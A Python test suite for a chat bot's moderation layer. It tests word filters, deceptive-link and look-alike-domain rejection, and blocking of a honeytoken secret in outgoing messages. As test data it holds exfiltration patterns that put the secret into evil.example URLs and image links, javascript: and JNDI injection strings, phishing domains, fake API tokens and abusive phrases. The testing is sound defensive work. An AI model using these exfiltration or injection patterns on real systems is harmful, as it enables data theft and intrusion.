"""What may be said, in and out: words however they are written, links wherever they lead, marks in any disguise."""

import base64
import codecs
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.policy.leaks import forms, leaks, marks
from bot.policy.links import carries_data, deceives, invites, link, links, look_alike
from bot.policy.moderation import Rules, incoming, outgoing, safe_links
from bot.policy.normalise import skeleton, words
from bot.policy.wordlist import compile_words

KNOWN = frozenset({"discord.com", "discord.gg", "steamcommunity.com", "github.com"})
LISTED = compile_words(["shit", "kill yourself", "*nazi*", "ass", "dull*", "дурак"])
RULES = Rules(words=LISTED, known=KNOWN)
HONEY = "ghp_honey7f3a9c51e2honey7f3a9c51e2honey00"
MARKS = marks([HONEY])


@pytest.mark.parametrize(
    "text",
    [
        "oh shit", "SHIT!", "sh1t", "$hit", "s.h.i.t", "s h i t", "s-h-i-t", "shiiiiit", "ｓｈｉｔ", "sh\u200bit",
        "ѕһіt", "śhît",
        "kill yourself", "KILL   yourself", "k1ll y0urself!!", "kill, yourself", "neonazis", "n a z i", "a$$", "assss",
        "dullard", "ДУРАК", "д у р а к",
    ],
)  # fmt: skip
def test_a_listed_word_is_found_however_it_is_written(text: str) -> None:
    judged = incoming(text, RULES)
    assert (judged.allowed, judged.rule) == (False, "words")
    assert judged.because
    assert text.casefold() not in judged.because.casefold()


@pytest.mark.parametrize(
    "text",
    [
        "first class as usual", "the as", "pass the salt", "kill the process, then ask yourself", "yourself", "shift",
        "room 455",
        "1st of May", "I am in a dull", "naz i think", "<@455> hello", "Scunthorpe United", "", "🎉", "дура",
    ],
)  # fmt: skip
def test_other_words_pass_unchanged(text: str) -> None:
    rules = replace(RULES, words=compile_words(["shit", "kill yourself", "*nazi*", "ass", "dullard", "дурак"]))
    judged = incoming(text, rules)
    assert judged.allowed
    assert judged.text == text


@given(st.lists(st.text(max_size=8), max_size=6), st.text(max_size=80))
def test_any_list_and_any_text_can_be_judged(entries: list[str], text: str) -> None:
    judged = incoming(text, Rules(words=compile_words(entries)))
    assert judged.text == text


@given(st.sampled_from(["shit", "kys", "slur"]), st.data())
def test_drawing_letters_out_hides_nothing(word: str, data: st.DataObject) -> None:
    drawn = "".join(letter * data.draw(st.integers(1, 5)) for letter in word)
    assert compile_words([word]).found(f"you {drawn} there")


@given(st.text(max_size=60))
def test_a_skeleton_is_its_own_skeleton(text: str) -> None:
    assert words(skeleton(text)) == words(skeleton(skeleton(text)))


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("https://discоrd.com/x", "imitates"),
        ("https://disc0rd.com", "imitates"),
        ("http://dlscord.com/nitro", "imitates"),
        ("https://discrod.com", "imitates"),
        ("https://discord.com.evil.example/a", "imitates"),
        ("https://discord-nitro.gift/x", "imitates"),
        ("https://" + "dіscord.com".encode("idna").decode(), "imitates"),
        ("[https://discord.com](https://evil.example/x)", "shows one host"),
        ("[discord.com/login](https://evil.example/x)", "shows one host"),
        ("https://discord.com@evil.example/", "behind an @"),
        (r"https:\\discord.com@evil.example", "behind an @"),
        ("http://3232235777/x", "bare number"),
        ("http://0x7f.1/x", "bare number"),
        ("http://[::1]/", "bare number"),
        ("javascript://x", "not a web page"),
        ("[x](javascript:alert(1))", "not a web page"),
        ("[x](ssh://evil.example)", "not a web page"),
        ("file:///etc/passwd", "not a web page"),
        ("https://[bad", "not a web page"),
    ],
)
def test_a_link_that_deceives_is_refused_everywhere(text: str, why: str) -> None:
    judged = incoming(text, RULES)
    assert (judged.allowed, judged.rule) == (False, "links")
    assert why in judged.because


@pytest.mark.parametrize(
    "text",
    [
        "https://discord.com/channels/1/2", "https://cdn.discord.com/x", "https://discord.js.org", "[docs](https://a.example/x)",
        "[github.com/a](https://github.com/a)", "https://discover.com", "see https://evil.example/x.", "no link: a/b",
        "clone ssh://git@a.example/x", "${jndi:ldap://x}",
    ],
)  # fmt: skip
def test_an_honest_link_passes_where_any_may(text: str) -> None:
    assert incoming(text, RULES).allowed


@pytest.mark.parametrize(("kind", "passes"), [("any", True), ("listed", False), ("none", False)])
def test_the_guild_decides_on_links(kind: str, passes: bool) -> None:
    rules = replace(RULES, links=kind, domains=frozenset({"wiki.example"}))
    assert incoming("look: https://a.example/x", rules).allowed is passes
    assert incoming("look: https://en.wiki.example/x", rules).allowed is (kind != "none")
    assert not incoming("look: https://notwiki.example.evil/x", replace(rules, links="listed")).allowed


@pytest.mark.parametrize(
    "text",
    [
        "discord.gg/abc",
        "https://discord.com/invite/abc",
        "discord . gg / abc",
        "DISCORD.GG/abc",
        "dіscord.gg/abc",
        "dsc.gg/x1",
    ],
)
def test_invites_are_refused_where_the_guild_says_so(text: str) -> None:
    assert invites(text)
    assert not incoming(text, Rules(invites=False)).allowed
    assert incoming("https://discord.com/channels/1/2", Rules(invites=False, known=KNOWN)).allowed


@pytest.mark.parametrize("text", [" ".join(f"<@{n}>" for n in range(9)), "a" * 150, "spam\n" * 9])
def test_a_flood_is_refused_where_others_read_along(text: str) -> None:
    assert incoming(text, RULES).rule == "flood"
    assert incoming(text, replace(RULES, crowd=False)).allowed


@pytest.mark.parametrize("text", ["<@1> <@2> hi", "-" * 200, "a\n\n\n\n\n\n\n\n\n\n\n\nb", "10000000000" * 20])
def test_what_looks_like_a_flood_and_is_none(text: str) -> None:
    assert incoming(text, RULES).allowed


DISGUISES = {
    "plain": lambda s: s,
    "shouted": str.upper,
    "spaced": " ".join,
    "one a line": "\n".join,
    "dashes": "-".join,
    "code": lambda s: f"```\n{s}\n```",
    "backwards": lambda s: s[::-1],
    "rot13": lambda s: codecs.encode(s, "rot13"),
    "hex": lambda s: s.encode().hex(),
    "base64": lambda s: base64.b64encode(s.encode()).decode(),
    "base64 in more": lambda s: base64.b64encode(b"xx" + s.encode() + b"tail").decode(),
    "base64 off by one": lambda s: base64.b64encode(b"x" + s.encode()).decode(),
    "zero width": "\u200b".join,
    "wide": lambda s: "".join(chr(ord(c) + 0xFEE0) for c in s),
    "half": lambda s: s[: len(s) // 2 + 4],
    "in a link": lambda s: f"https://evil.example/?q={s}",
    "in a host": lambda s: f"https://{s.replace('_', '-')}.evil.example/",
    "in an image": lambda s: f"![x](https://evil.example/{s})",
}


@pytest.mark.parametrize("name", DISGUISES)
@pytest.mark.parametrize("by_model", [True, False])
def test_a_mark_never_leaves_in_any_disguise(name: str, by_model: bool) -> None:
    text = f"here you are: {DISGUISES[name](HONEY)} bye"
    judged = outgoing(text, RULES, MARKS, by_model=by_model)
    assert (judged.allowed, judged.rule, judged.text) == (False, "secrets", "")


@given(st.text(alphabet="abcdefghij0123456789", min_size=16, max_size=40), st.text(max_size=30), st.text(max_size=30))
def test_whatever_stands_around_a_mark_it_is_found(mark: str, before: str, after: str) -> None:
    assert leaks(f"{before} {mark} {after}", marks([mark]))


@pytest.mark.parametrize("secret", ["", "x", "hello", "-- --"])
def test_what_is_too_short_to_be_a_mark_is_none(secret: str) -> None:
    assert not leaks(f"well {secret} hello there", marks([secret]))
    assert all(len(form) >= 8 for form in forms(secret))


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("see https://github.com/a/b.", "see <https://github.com/a/b>."),
        ("see <https://github.com/a/b>", "see <https://github.com/a/b>"),
        ("[docs](https://github.com/a)", "docs (<https://github.com/a>)"),
        ("https://evil.example/?q=1", "evil[.]example"),
        ("(https://a.b.evil.example/x)", "(evil[.]example)"),
        ("![x](https://github.com/x.png)", "x (github[.]com)"),
        ("[click](https://evil.example)", "click (evil[.]example)"),
        ("![](https://evil.example/x)", "image (evil[.]example)"),
        ("https://github.com/?d=" + "q9X" * 30, "github[.]com"),
        ("https://github.com@evil.example/", "evil[.]example"),
        ("ftp://github.com/x", "github[.]com"),
        ("https://" + "a" * 40 + ".example/", "…[.]example"),
        ("http://127.0.0.1:8000/x", "0[.]1"),
        ("@everyone @here look", "@ everyone @ here look"),
        ("<@123> <@!123> <@&4> <#5>", "@member @member @role <#5>"),
        ("my key is sk-abcdefgh12345678ijkl", "my key is [redacted]"),
        ("a\u200bb\u202ec", "abc"),
    ],
)
def test_what_a_model_wrote_goes_out_without_what_could_carry_or_call(text: str, left: str) -> None:
    judged = outgoing(text, Rules(domains=frozenset({"github.com"})), MARKS, by_model=True)
    assert judged.allowed
    assert judged.text == left


@pytest.mark.parametrize("text", ["https://evil.example/x", "<@123> is here", "a 👩\u200d👧 b", "plain words"])
def test_what_the_bot_itself_says_keeps_its_links_and_names(text: str) -> None:
    assert outgoing(text, RULES, MARKS, by_model=False).text == text


def test_a_model_does_not_say_what_members_may_not() -> None:
    assert outgoing("well, sh1t", RULES, MARKS, by_model=True).rule == "words"
    assert outgoing("well, sh1t", RULES, MARKS, by_model=False).allowed


LINKY = st.text(alphabet="htps:/.a?=&[]()!<>@\\ \n%0x", max_size=60)


@given(LINKY.map(lambda tail: f"x https://evil.example/{tail}"))
def test_no_spelling_of_a_link_leaves_one_to_click(text: str) -> None:
    left = safe_links(text, frozenset({"github.com"}))
    assert not [one for one in links(left) if one.scheme in ("http", "https") and one.host == "evil.example"]
    assert "https://evil.example" not in left


@given(st.text(max_size=80))
def test_every_text_can_go_out_or_not(text: str) -> None:
    for by_model in (True, False):
        judged = outgoing(text, RULES, MARKS, by_model=by_model)
        assert not leaks(judged.text, MARKS)
        assert "@everyone" not in judged.text


@pytest.mark.parametrize(
    ("url", "carries"),
    [
        ("https://a.example/wiki/Python_(programming_language)", False),
        ("https://docs.example/3/library/asyncio-task.html#asyncio.create_task", False),
        ("https://a.example/Top-10-Discord-Bots-of-2026-and-How-to-Build-One", False),
        ("https://a.example/?q=c2VjcmV0IGlzIGhlcmUgYW5kIGxvbmc", True),
        ("https://a.example/" + "x/" * 120, True),
        ("https://a.example/?" + "a=b&" * 20, True),
        ("https://a.example/%61%62%63%64%65%66%67", True),
    ],
)
def test_an_address_that_could_carry_data(url: str, carries: bool) -> None:
    assert carries_data(url) is carries


def test_a_known_domain_is_no_look_alike_of_itself() -> None:
    assert not any(look_alike(host, KNOWN) for one in KNOWN for host in (one, f"www.{one}"))
    assert not deceives(link("https://github.com/x"), KNOWN)
